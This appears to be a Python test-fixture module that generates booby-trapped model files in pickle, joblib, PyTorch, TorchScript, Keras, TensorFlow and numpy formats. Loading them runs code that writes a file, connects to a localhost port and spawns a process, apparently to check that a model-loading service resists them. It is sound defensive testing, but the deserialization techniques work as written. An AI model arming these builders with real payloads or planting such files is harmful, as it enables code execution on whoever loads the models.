"""Model files that attack whoever loads them, made by script: each writes, sends or starts something when it is obeyed.

`CORPUS` maps a form to (Framework, DataInputConfig, builder, how a careless reader loads it). The careless reader is
run by a test without any protection, to show that the bait bites; real jobs are then run on the same files.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, NamedTuple


@dataclass(frozen=True)
class Bait:
    """Where an attack would be seen: a file, a port of this machine, the mark of a process."""

    folder: Path
    port: int

    @property
    def mark(self) -> str:
        return f"neo-hostile-{self.port}"

    def code(self) -> str:
        """Python that writes, sends and leaves a process running."""
        return (
            f"import socket, subprocess, sys\nopen({str(self.folder / 'written')!r}, 'w').write('x')\n"
            f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)', {self.mark!r}], start_new_session=True)\n"
            f"socket.create_connection(('127.0.0.1', {self.port}), 2).close()\n"
        )

    def processes(self) -> list[int]:
        """Processes that carry the mark."""
        found = []
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit():
                try:
                    line = (entry / "cmdline").read_bytes()
                except OSError:
                    continue
                if self.mark.encode() in line and b"time.sleep(60)" in line:
                    found.append(int(entry.name))
        return found


class Trap:
    """A bait, and what it has caught."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir()
        self._server = socket.create_server(("127.0.0.1", 0))
        self._server.settimeout(0.1)
        self.bait = Bait(folder, self._server.getsockname()[1])

    def caught(self) -> set[str]:
        """What the attack achieved so far; the trap is set again."""
        found = {"written" for _ in self.bait.folder.iterdir()}
        try:
            self._server.accept()[0].close()
            found.add("sent")
        except TimeoutError:
            pass
        if self.bait.processes():
            found.add("running")
        return found

    def close(self) -> None:
        for pid in self.bait.processes():
            os.kill(pid, signal.SIGKILL)
        self._server.close()


class Evil:
    """Runs the bait's code when it is unpickled by a reader that lets it."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (self.code,))


def _pickle(folder: Path, bait: Bait) -> None:
    (folder / "model.pkl").write_bytes(pickle.dumps({"model": Evil(bait.code())}))


def _joblib(compress: Any) -> Callable[[Path, Bait], None]:
    def build(folder: Path, bait: Bait) -> None:
        import joblib

        joblib.dump([Evil(bait.code())], folder / "model.joblib", compress=compress)

    return build


def _memory_map(folder: Path, bait: Bait) -> None:
    """numpy.memmap, a class that honest pickles name, makes the file it is called with."""

    class Mapped:
        def __reduce__(self) -> tuple[Any, ...]:
            import numpy as np

            return np.memmap, (str(bait.folder / "written"), "uint8", "w+", 0, (4,))

    (folder / "model.pkl").write_bytes(pickle.dumps(Mapped()))


def _torch_pickle(folder: Path, bait: Bait) -> None:
    """The zip that torch.save writes, with a payload as its pickle."""
    _torch_zip(folder / "model.pth", {"data.pkl": pickle.dumps(Evil(bait.code()), 2)})


def _torch_legacy(folder: Path, bait: Bait) -> None:
    """The form before 1.6: pickles one after the other."""
    stream = io.BytesIO()
    for item in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, Evil(bait.code())):
        pickle.dump(item, stream, 2)
    (folder / "model.pth").write_bytes(stream.getvalue())


def _torchscript_data(folder: Path, bait: Bait) -> None:
    """A TorchScript archive with a payload where its data lie."""
    data = pickle.dumps(Evil(bait.code()), 2)
    _torch_zip(folder / "model.pth", {"data.pkl": data, "constants.pkl": pickle.dumps((), 2), "code/__torch__.py": b""})


def _torch_zip(file: Path, files: dict[str, bytes]) -> None:
    with zipfile.ZipFile(file, "w") as stream:
        for name, data in {**files, "version": b"3\n", "byteorder": b"little"}.items():
            stream.writestr(f"model/{name}", data)


def _exported(folder: Path, bait: Bait) -> None:
    """An exported program whose example inputs are a pickle: torch.export.load falls back to loading anything."""
    import torch

    class Plain(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    with tempfile.TemporaryDirectory() as scratch:
        torch.export.save(torch.export.export(Plain(), (torch.ones(1, 3),)), Path(scratch) / "model.pt2")
        inputs = io.BytesIO()
        torch.save(((torch.ones(1, 3),), {"a": Evil(bait.code())}), inputs)
        with zipfile.ZipFile(Path(scratch) / "model.pt2") as honest, zipfile.ZipFile(folder / "model.pt2", "w") as bad:
            for name in honest.namelist():
                bad.writestr(name, inputs.getvalue() if "sample_inputs" in name else honest.read(name))


def _torchscript(folder: Path, bait: Bait) -> None:
    """TorchScript has operators that write files: they are part of the model, no Python is needed."""
    import torch

    class Writer(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, self.path)
            return x + 1

    torch.jit.script(Writer(str(bait.folder / "written"))).save(str(folder / "model.pth"))


def _keras(name: str, behind: bytes = b"") -> Callable[[Path, Bait], None]:
    def build(folder: Path, bait: Bait) -> None:
        import keras

        names: dict[str, Any] = {}
        exec(f"run = lambda x: (exec({bait.code()!r}), x)[1]", names)
        layer = keras.layers.Lambda(names["run"], output_shape=(3,))
        model = keras.Sequential(
            [keras.Input((3,)), keras.layers.Dense(3)]
        )  # without the layer: its code must not run here
        config = model.get_config()
        config["layers"].insert(1, keras.saving.serialize_keras_object(layer))
        model.get_config = lambda: config
        model.save(folder / name)
        if behind:
            with (folder / name).open("ab") as file:
                file.write(behind)

    return build


def _honest_zip() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("config.json", '{"class_name": "Sequential", "config": {"layers": []}}')
        archive.writestr("metadata.json", '{"keras_version": "3.9.0"}')
    return stream.getvalue()


def _savedmodel(folder: Path, bait: Bait) -> None:
    """TensorFlow's graph has operations that write files."""
    import tensorflow as tf

    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([1, 3], tf.float32, "x")])
        def __call__(self, x: Any) -> dict[str, Any]:
            with tf.control_dependencies([tf.io.write_file(str(bait.folder / "written"), "x")]):
                return {"y": tf.identity(x)}

    writer = Writer()
    tf.saved_model.save(writer, str(folder), signatures=writer.__call__.get_concrete_function())


def _onnx(folder: Path) -> None:
    import onnx
    from onnx import TensorProto, helper

    value = helper.make_tensor_value_info
    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph(
        [node], "g", [value("x", TensorProto.FLOAT, [1, 3])], [value("y", TensorProto.FLOAT, [1, 3])]
    )
    onnx.save(
        helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8), folder / "model.onnx"
    )


def _samples(folder: Path, bait: Bait) -> None:
    """An honest model whose sample inputs are pickled objects."""
    import numpy as np

    _onnx(folder)
    np.savez(folder / "samples.npz", x=np.array([Evil(bait.code())], dtype=object), allow_pickle=True)


def _misnamed(folder: Path, bait: Bait) -> None:
    (folder / "model.onnx").write_bytes(pickle.dumps(Evil(bait.code())))


RAW = "import pickle, sys; pickle.load(open(sys.argv[1] + '/{}', 'rb'))"
JOBLIB = "import joblib, sys; joblib.load(sys.argv[1] + '/model.joblib')"
TORCH = "import torch, sys; torch.load(sys.argv[1] + '/model.pth', weights_only=False)"
SCRIPT = "import torch, sys; torch.jit.load(sys.argv[1] + '/model.pth')(torch.ones(1, 3))"
KERAS = "import keras, sys; keras.saving.load_model(sys.argv[1] + '/{}', safe_mode=False, compile=False)(keras.ops.ones((1, 3)))"
DATA = "import pickle, sys, zipfile; pickle.loads(zipfile.ZipFile(sys.argv[1] + '/model.pth').read('model/data.pkl'))"
EXPORTED = "import torch, sys; torch.export.load(sys.argv[1] + '/model.pt2')"
SAVED = (
    "import tensorflow as tf, sys; tf.saved_model.load(sys.argv[1]).signatures['serving_default'](x=tf.ones((1, 3)))"
)
NPZ = "import numpy, sys; numpy.load(sys.argv[1] + '/samples.npz', allow_pickle=True)['x']"
X = json.dumps({"x": [1, 3]})


class Form(NamedTuple):
    """One attack: the job's Framework and DataInputConfig, the builder, the careless reader, the package it needs."""

    framework: str
    inputs: str | None
    build: Callable[[Path, Bait], None]
    careless: str
    needs: str


CORPUS: dict[str, Form] = {
    "pickle as SKLEARN": Form("SKLEARN", None, _pickle, RAW.format("model.pkl"), "sklearn"),
    "memory map": Form("SKLEARN", None, _memory_map, RAW.format("model.pkl"), "sklearn"),
    "joblib": Form("SKLEARN", None, _joblib(0), JOBLIB, "joblib"),
    "joblib, compressed": Form("SKLEARN", None, _joblib(("zlib", 3)), JOBLIB, "joblib"),
    "pickle as XGBOOST": Form("XGBOOST", None, _pickle, RAW.format("model.pkl"), "xgboost"),
    "pickle as ONNX": Form("ONNX", None, _misnamed, RAW.format("model.onnx"), "onnx"),
    "samples.npz": Form("ONNX", None, _samples, NPZ, "numpy"),
    "torch.save": Form("PYTORCH", X, _torch_pickle, TORCH, "torch"),
    "torch.save before 1.6": Form("PYTORCH", X, _torch_legacy, TORCH, "torch"),
    "TorchScript operator": Form("PYTORCH", X, _torchscript, SCRIPT, "torch"),
    "TorchScript data": Form("PYTORCH", X, _torchscript_data, DATA, "torch"),
    "exported program": Form("PYTORCH", X, _exported, EXPORTED, "torch"),
    ".keras Lambda": Form("KERAS", X, _keras("model.keras"), KERAS.format("model.keras"), "keras"),
    ".h5 Lambda": Form("KERAS", X, _keras("model.h5"), KERAS.format("model.h5"), "keras"),
    ".h5 Lambda behind a zip": Form("KERAS", X, _keras("model.h5", _honest_zip()), KERAS.format("model.h5"), "keras"),
    "SavedModel WriteFile": Form("TENSORFLOW", X, _savedmodel, SAVED, "tensorflow"),
}
LIGHT = tuple(name for name, form in CORPUS.items() if form.needs not in ("torch", "keras", "tensorflow"))


def archive(name: str, bait: Bait, work: Path) -> Path:
    """The form's model folder and archive below `work`; building does not set the bait off."""
    folder = work / "model"
    folder.mkdir(parents=True)
    CORPUS[name].build(folder, bait)
    packed = work / "model.tar.gz"
    with tarfile.open(packed, "w:gz") as tar:
        for item in sorted(folder.iterdir()):
            tar.add(item, item.name)
    return packed


def careless(name: str, folder: Path) -> None:
    """Load the model as someone would who trusts it."""
    line = [sys.executable, "-c", CORPUS[name].careless, str(folder)]
    subprocess.run(line, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=300)
